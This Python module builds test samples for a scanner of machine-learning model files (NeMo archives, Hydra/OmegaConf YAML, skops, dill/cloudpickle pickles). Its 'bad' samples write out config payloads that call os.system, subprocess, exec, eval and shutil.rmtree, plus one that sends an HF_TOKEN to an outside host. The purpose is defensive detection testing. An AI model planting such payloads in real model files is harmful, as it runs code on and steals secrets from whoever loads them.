"""Samples for instantiating configs (N101-N107, N201-N202, N401-N402: NeMo ``.nemo`` archives
and Hydra / OmegaConf YAML), skops archives (M101-M119, M201-M219) and dill / cloudpickle
reconstruction globals inside pickles (P112-P119).

Bad samples are small hand-built files whose payloads are harmless (at worst they would
``touch`` a marker under $TMPDIR if something loaded them); ok samples are the real-library
fixtures of ``tests/data/formats/configs/`` (``scripts/make_configs_fixtures.py``) or the same
builders with nothing wrong. Deterministic: no timestamps, no randomness.
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

from samples.make_samples import MARKER_CMD, STATE_DICT, tar_bytes

FIXTURES = Path(__file__).resolve().parents[2] / "tests" / "data" / "formats" / "configs"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


# -- NeMo / Hydra ----------------------------------------------------------------------------

# a tiny PyTorch zip checkpoint: what model_weights.ckpt holds
_WEIGHTS = "model_weights.ckpt"
MODEL_HEAD = "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\n"
OK_MODULE = (
    "preprocessor:\n"
    "  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
    "  sample_rate: 16000\n"
)


def nemo(config: str, *, weights: bytes | None = None) -> bytes:
    """A ``.nemo`` tar as NeMo's SaveRestoreConnector writes it (``./``-prefixed members)."""
    members: list[tuple[str, bytes | None, str | None]] = [
        ("./model_config.yaml", config.encode(), None)
    ]
    if weights is not None:
        members.append((f"./{_WEIGHTS}", weights, None))
    return tar_bytes(members)


def config_samples() -> dict[str, bytes]:
    ok = MODEL_HEAD + OK_MODULE
    # MARKER_CMD's ${TMPDIR:-/tmp} is itself an OmegaConf resolver call (N402): spelled out
    cmd = MARKER_CMD.replace("${TMPDIR:-/tmp}", "/tmp")
    return {
        "N101/bad-os-system.nemo": nemo(
            MODEL_HEAD + f"preprocessor:\n  _target_: os.system\n  _args_: ['{cmd}']\n"
        ),
        "N101/bad-subprocess-partial.nemo": nemo(
            MODEL_HEAD + "encoder:\n  _target_: subprocess.run\n  _partial_: true\n"
            f"  args: ['sh', '-c', '{cmd}']\n"
        ),
        # nested below a target that hands its config on uninstantiated
        "N101/bad-nested-not-recursive.nemo": nemo(
            MODEL_HEAD + "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
            "  _recursive_: false\n  layer:\n    _target_: builtins.exec\n"
            "    _args_: ['import os']\n"
        ),
        # the dangerous callable reached by walking attributes through a module
        "N101/bad-walk-through-module.nemo": nemo(
            MODEL_HEAD
            + f"x:\n  _target_: nemo.core.classes.common.os.system\n  _args_: ['{cmd}']\n"
        ),
        # NeMo's own root `target` key
        "N101/bad-nemo-root-target.nemo": nemo("target: runpy.run_path\nx: 1\n"),
        "N101/bad-merge-key.nemo": nemo(
            MODEL_HEAD + f"base: &b\n  _args_: ['{cmd}']\nx:\n  <<: *b\n  _target_: posix.system\n"
        ),
        "N101/ok-nemo-config.nemo": nemo(ok),
        "N101/ok-conformer-ctc.nemo": fixture("ok-conformer-ctc.nemo"),
        "N102/bad-getattr-chain.nemo": nemo(
            MODEL_HEAD + "cmd:\n  _target_: builtins.getattr\n"
            "  _args_: [{_target_: importlib.import_module, _args_: [os]}, system]\n"
        ),
        "N102/ok-nemo-config.nemo": nemo(ok),
        "N103/bad-torch-load.nemo": nemo(
            MODEL_HEAD + "encoder:\n  _target_: torch.load\n  f: /tmp/second-stage.bin\n"
            "  weights_only: false\n"
        ),
        "N103/ok-nemo-config.nemo": nemo(ok),
        "N104/bad-rmtree.nemo": nemo(
            MODEL_HEAD + "cleanup:\n  _target_: shutil.rmtree\n  _args_: [/nonexistent/x]\n"
        ),
        "N104/ok-nemo-config.nemo": nemo(ok),
        "N105/bad-unknown-target.nemo": nemo(
            MODEL_HEAD + "encoder:\n  _target_: some_package.models.Encoder\n  d_model: 4\n"
        ),
        "N105/ok-conformer-ctc-gz.nemo": fixture("ok-conformer-ctc-gz.nemo"),
        "N106/bad-env-target.nemo": nemo(MODEL_HEAD + "x:\n  _target_: ${oc.env:TARGET}\n"),
        # plain references are resolved and the result judged (N101, not N106)
        "N106/ok-resolved-reference.nemo": nemo(
            MODEL_HEAD + "names:\n  cls: AudioToMelSpectrogramPreprocessor\n"
            "x:\n  _target_: nemo.collections.asr.modules.${names.cls}\n"
        ),
        "N107/bad-python-tag.nemo": nemo(
            MODEL_HEAD + f"x: !!python/object/apply:os.system ['{cmd}']\n"
        ),
        "N107/ok-nemo-config.nemo": nemo(ok + "y: !!binary aGVsbG8=\n"),
        "N201/bad-not-yaml.nemo": nemo(MODEL_HEAD + "x: [unclosed\n"),
        "N201/bad-target-not-string.nemo": nemo(MODEL_HEAD + "x:\n  _target_: [os, system]\n"),
        "N201/ok-nemo-config.nemo": nemo(ok),
        "N202/bad-duplicate-target.nemo": nemo(
            MODEL_HEAD + "x:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
            "  _target_: nemo.collections.asr.modules.ConvASRDecoder\n"
        ),
        "N202/ok-nemo-config.nemo": nemo(ok),
        "N401/bad-env-secret.nemo": nemo(
            ok + "tokenizer:\n  url: https://collect.invalid/${oc.env:HF_TOKEN}\n"
        ),
        "N401/ok-references.nemo": nemo(
            ok + "train_ds:\n  sample_rate: ${preprocessor.sample_rate}\n"
        ),
        "N402/bad-eval-resolver.nemo": nemo(ok + "optim:\n  lr: ${eval:'0.1 * 2'}\n"),
        "N402/ok-builtin-resolver.nemo": nemo(ok + "optim:\n  lr: ${oc.select:x.lr,0.1}\n"),
    }


# -- skops ----------------------------------------------------------------------------------


def _json_node(value: object) -> dict[str, object]:
    return {
        "__class__": type(value).__name__,
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def skops_with(extra: dict[str, Any] | None = None, schema: bytes | None = None) -> bytes:
    """The real logistic-regression archive with ``extra`` nodes added to the estimator's
    attribute dict (or its schema.json replaced), rewritten deterministically."""
    src = zipfile.ZipFile(io.BytesIO(fixture("ok-logreg.skops")))
    doc = json.loads(src.read("schema.json"))
    for key, node in (extra or {}).items():
        doc["content"]["content"][key] = node
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name in sorted(src.namelist()):
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if name == "schema.json":
                data = schema if schema is not None else json.dumps(doc).encode()
            else:
                data = src.read(name)
            zf.writestr(info, data)
    return out.getvalue()


def _function(module: str, name: str) -> dict[str, object]:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode", "content": {}}


def skops_samples() -> dict[str, bytes]:
    ok = fixture("ok-logreg.skops")
    methodcaller = {
        "__class__": "methodcaller",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "attrs": {
            "__class__": "tuple",
            "__module__": "builtins",
            "__loader__": "TupleNode",
            "content": [_json_node("system"), _json_node("true")],
        },
    }
    mismatched = {
        "__class__": "LogisticRegression",
        "__module__": "sklearn.linear_model._logistic",
        "__loader__": "MethodNode",
        "content": {"func": "fit", "obj": _function("builtins", "eval")},
    }
    return {
        "M101/bad-function-eval.skops": skops_with({"hook": _function("builtins", "eval")}),
        "M101/ok-logreg.skops": ok,
        "M102/bad-operator-methodcaller.skops": skops_with({"hook": methodcaller}),
        "M102/ok-pipeline.skops": fixture("ok-pipeline.skops"),
        "M103/bad-function-rmtree.skops": skops_with({"hook": _function("shutil", "rmtree")}),
        "M103/ok-logreg.skops": ok,
        "M104/bad-unknown-class.skops": skops_with(
            {
                "extra": {
                    "__class__": "Custom",
                    "__module__": "my_lib.models",
                    "__loader__": "ObjectNode",
                    "content": {
                        "__class__": "dict",
                        "__module__": "builtins",
                        "__loader__": "DictNode",
                        "content": {},
                    },
                }
            }
        ),
        "M104/ok-forest.skops": fixture("ok-forest.skops"),
        "M105/bad-forest.skops": fixture("ok-forest.skops"),
        "M105/ok-logreg.skops": ok,
        "M201/bad-method-node-mismatch.skops": skops_with({"hook": mismatched}),
        "M201/bad-unknown-loader.skops": skops_with(
            {"hook": {"__class__": "x", "__module__": "y", "__loader__": "EvalNode"}}
        ),
        "M201/bad-schema-not-json.skops": skops_with(schema=b'{"__loader__": '),
        "M201/ok-hgb.skops": fixture("ok-hgb.skops"),
    }


# -- dill / cloudpickle ----------------------------------------------------------------------


def pickled_code_samples() -> dict[str, bytes]:
    return {
        "P112/bad-dill-lambda.pkl": fixture("dill-lambda.pkl"),
        "P112/bad-cloudpickle-class.pkl": fixture("cloudpickle-class.pkl"),
        "P112/ok-state-dict.pkl": STATE_DICT,
    }


def samples() -> dict[str, bytes]:
    return {**config_samples(), **skops_samples(), **pickled_code_samples()}
